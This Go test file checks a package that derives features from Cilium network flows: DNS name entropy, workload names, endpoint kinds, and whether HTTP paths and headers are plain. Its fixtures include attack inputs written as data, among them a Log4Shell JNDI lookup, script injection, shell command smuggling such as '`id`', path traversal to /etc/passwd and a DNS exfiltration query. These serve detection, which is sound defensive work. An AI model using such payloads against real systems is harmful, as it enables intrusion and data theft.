package facts

import (
	"math"
	"math/rand/v2"
	"slices"
	"testing"

	flowpb "github.com/cilium/cilium/api/v1/flow"
	"github.com/stretchr/testify/require"
)

func TestDestinationNames(t *testing.T) {
	for _, tc := range []struct {
		name           string
		f              *flowpb.Flow
		names, domains []string
	}{
		{"fqdn, host with port, same name once", &flowpb.Flow{
			DestinationNames: []string{"API.Stripe.com."},
			L7:               &flowpb.Layer7{Record: &flowpb.Layer7_Http{Http: &flowpb.HTTP{Url: "https://api.stripe.com:443/v1/charges"}}},
		}, []string{"api.stripe.com"}, []string{"api.stripe.com", "stripe.com", "com"}},
		{"dns query", &flowpb.Flow{
			L7: &flowpb.Layer7{Record: &flowpb.Layer7_Dns{Dns: &flowpb.DNS{Query: "pool.minexmr.com."}}},
		}, []string{"pool.minexmr.com"}, []string{"pool.minexmr.com", "minexmr.com", "com"}},
		{"ipv6 host", &flowpb.Flow{
			L7: &flowpb.Layer7{Record: &flowpb.Layer7_Http{Http: &flowpb.HTTP{Url: "http://[fd00:ec2::254]:80/latest"}}},
		}, []string{"fd00:ec2::254"}, []string{"fd00:ec2::254"}},
		{"nothing", &flowpb.Flow{}, nil, nil},
	} {
		t.Run(tc.name, func(t *testing.T) {
			fa := Measure(tc.f)
			require.Equal(t, tc.names, fa.Destination.Names)
			require.Equal(t, tc.domains, fa.Destination.Domains)
		})
	}
}

func TestWorkloadFromPod(t *testing.T) {
	for _, tc := range []struct{ pod, want string }{
		{"prometheus-6655946b9f-6xcpf", "prometheus"},
		{"kube-dns-b4f5c58c7-7qmtw", "kube-dns"},
		{"node-local-dns-88zrp", "node-local-dns"},
		{"postgres-0", "postgres"},
		{"etcd-main-12", "etcd-main"},
		{"standalone", "standalone"},
		{"my-pod-name", "my-pod-name"},
		{"istiod-istio-1611-5d4c9f7b8-abcde", "istiod-istio-1611-5d4c9f7b8-abcde"},
		{"istiod-istio-1611-5d4c9f7b8-bcdfg", "istiod-istio-1611"},
	} {
		t.Run(tc.pod, func(t *testing.T) {
			require.Equal(t, tc.want, WorkloadFromPod(tc.pod))
		})
	}
}

func TestEndpointKind(t *testing.T) {
	for _, tc := range []struct {
		name string
		ep   *flowpb.Endpoint
		want string
	}{
		{"world label", &flowpb.Endpoint{Identity: 2, Labels: []string{"reserved:world"}}, KindWorld},
		{"world-ipv4 label", &flowpb.Endpoint{Identity: 9, Labels: []string{"reserved:world-ipv4"}}, KindWorld},
		{"apiserver beats host", &flowpb.Endpoint{Identity: 7, Labels: []string{"reserved:host", "reserved:kube-apiserver"}}, KindKubeAPIServer},
		{"gke world with pod name", &flowpb.Endpoint{Identity: 2, Namespace: "kube-system", PodName: "kube-dns-1", Labels: []string{"reserved:world"}}, KindWorld},
		{"pod", &flowpb.Endpoint{Identity: 4242, Namespace: "shop", PodName: "cart-1"}, KindPod},
		{"identity only", &flowpb.Endpoint{Identity: 6}, KindRemoteNode},
		{"nothing", nil, KindUnknown},
	} {
		t.Run(tc.name, func(t *testing.T) {
			require.Equal(t, tc.want, endpoint(tc.ep, "").Kind)
		})
	}
}

func TestMeasureDNS(t *testing.T) {
	f := &flowpb.Flow{L7: &flowpb.Layer7{Record: &flowpb.Layer7_Dns{Dns: &flowpb.DNS{
		Query: "mzxw6ytboi2dkmzxgq3tsnbrgqydambqgu4tembr.t.exfil.example.", Qtypes: []string{"TXT"}}}}}
	fa := Measure(f)
	require.Equal(t, "mzxw6ytboi2dkmzxgq3tsnbrgqydambqgu4tembr.t.exfil.example", fa.DNS.Query)
	require.Equal(t, 40, fa.DNS.MaxLabelLength)
	require.Greater(t, fa.DNS.MaxLabelEntropy, 3.5)
	require.Less(t, Entropy("aaaaaaaa"), 0.01)
	require.InDelta(t, 2.0, Entropy("abcd"), 1e-9)
}

// TestEntropyIsTheWholeSum: Entropy sums over the bytes seen only, and
// gets the very float64 a sum over every byte value gets (the document
// rounds it: one bit could change a digit), on random and on DNS-like
// strings.
func TestEntropyIsTheWholeSum(t *testing.T) {
	whole := func(s string) float64 {
		var counts [256]int
		for i := 0; i < len(s); i++ {
			counts[s[i]]++
		}
		h := 0.0
		for _, c := range counts {
			if c > 0 {
				p := float64(c) / float64(len(s))
				h -= p * math.Log2(p)
			}
		}
		return h
	}
	r := rand.New(rand.NewPCG(1, 2))
	for i := range 20000 {
		b := make([]byte, 1+r.IntN(64))
		for j := range b {
			if i%2 == 0 {
				b[j] = byte(r.IntN(256))
			} else {
				b[j] = "abcdefghijklmnopqrstuvwxyz0123456789-"[r.IntN(37)]
			}
		}
		require.Equal(t, math.Float64bits(whole(string(b))), math.Float64bits(Entropy(string(b))), "%q", b)
	}
	require.Zero(t, Entropy(""))
}

func TestHTTPPlain(t *testing.T) {
	for _, tc := range []struct {
		url   string
		plain bool
	}{
		{"http://shop/api/v1/products/OLJCESPC7Z", true},
		{"/hipstershop.CartService/GetCart", true},
		{"/static/app.min.js", true},
		{"/~user/file_1-2.txt", true},
		{"/search?q=shoes", false},
		{"/a/../etc/passwd", false},
		{"/a%2e%2e/etc", false},
		{"/name'--", false},
		{"/a b", false},
		{"/%zz?x", false}, // malformed: split by hand
		{"/%zz", false},
	} {
		h := parseHTTP(&flowpb.HTTP{Method: "GET", Url: tc.url})
		require.Equal(t, tc.plain, h.Plain, tc.url)
	}
}

// TestHTTPHeadersPlain: ordinary header values are plain; a value with an
// expression, lookup or markup character is not, in any header and in the
// last header kept within the bounds.
func TestHTTPHeadersPlain(t *testing.T) {
	browser := []*flowpb.HTTPHeader{
		{Key: "User-Agent", Value: "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36"},
		{Key: "Accept", Value: "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"},
		{Key: "Cookie", Value: "session=abc123; theme=dark%20mode"},
		{Key: "If-None-Match", Value: `W/"5e1-1a2b"`},
		{Key: "Authorization", Value: "Bearer eyJhbGciOiJIUzI1NiJ9.e30.x-y_z"},
	}
	for _, tc := range []struct {
		name    string
		headers []*flowpb.HTTPHeader
		plain   bool
	}{
		{"none", nil, true},
		{"browser", browser, true},
		{"jndi", append(slices.Clone(browser), &flowpb.HTTPHeader{Key: "X-Api-Version", Value: "${jndi:ldap://evil/a}"}), false},
		{"script", []*flowpb.HTTPHeader{{Key: "Referer", Value: "<script>alert(1)</script>"}}, false},
		{"pipe", []*flowpb.HTTPHeader{{Key: "X-Forwarded-For", Value: "1.2.3.4 | id"}}, false},
		{"backslash", []*flowpb.HTTPHeader{{Key: "X-Path", Value: `..\windows`}}, false},
		{"backtick", []*flowpb.HTTPHeader{{Key: "User-Agent", Value: "`id`"}}, false},
		{"only_the_bounded_headers", append(slices.Repeat([]*flowpb.HTTPHeader{{Key: "X", Value: "1"}}, MaxHeaders),
			&flowpb.HTTPHeader{Key: "X-Late", Value: "${jndi:x}"}), true},
	} {
		t.Run(tc.name, func(t *testing.T) {
			h := parseHTTP(&flowpb.HTTP{Method: "GET", Url: "/", Headers: tc.headers})
			require.Equal(t, tc.plain, h.HeadersPlain)
		})
	}
}

// TestLenientURL: URLs Go's parser refuses still yield their path, query
// and host, so path policies see them.
func TestLenientURL(t *testing.T) {
	for _, tc := range []struct{ url, host, path, query string }{
		{"http://shop.example.com/static/%u002e%u002e/x", "shop.example.com", "/static/%u002e%u002e/x", ""},
		{"http://shop:99999/actuator/env?x=1", "shop:99999", "/actuator/env", "x=1"},
		{"http://sh op/actuator", "sh op", "/actuator", ""},
		{"http://user:p/w d@shop/admin#frag", "shop", "/admin", ""},
		{"http://[fd00::1/actuator", "[fd00::1", "/actuator", ""},
		{"/%zz?a=b", "", "/%zz", "a=b"},
	} {
		h := parseHTTP(&flowpb.HTTP{Method: "GET", Url: tc.url})
		require.Equal(t, tc.host, h.Host, tc.url)
		require.Equal(t, tc.path, h.RawPath, tc.url)
		require.Equal(t, tc.query, h.Query, tc.url)
	}
}

// TestEndpointKeyOnceIsTheKey: the key Measure keeps for each side is the
// one Key makes from the fields, for pods with and without a workload and
// for every reserved kind.
func TestEndpointKeyOnceIsTheKey(t *testing.T) {
	eps := []Endpoint{
		{Kind: KindPod, Namespace: "shop", Workload: "cart", IP: "10.0.0.1"},
		{Kind: KindPod, Namespace: "shop", IP: "10.0.0.2"},
	}
	for _, k := range reservedKinds {
		eps = append(eps, Endpoint{Kind: k, IP: "203.0.113.7"})
	}
	for _, e := range eps {
		want := e.Key()
		e.key = want
		require.Equal(t, want, e.Key())
	}
	pod := &flowpb.Flow{
		Source:      &flowpb.Endpoint{Namespace: "shop", PodName: "cart-7d9f8b6c5d-x2k9q", Labels: []string{"k8s:app=cart"}},
		Destination: &flowpb.Endpoint{Labels: []string{"reserved:world"}},
		IP:          &flowpb.IP{Source: "10.0.0.1", Destination: "203.0.113.7"},
	}
	for _, f := range []*flowpb.Flow{pod, {}} {
		fa := Measure(f)
		for _, e := range []Endpoint{fa.Source, fa.Destination} {
			require.NotEmpty(t, e.key, "kept by Measure")
			fresh := e
			fresh.key = ""
			require.Equal(t, fresh.Key(), e.Key())
		}
	}
}
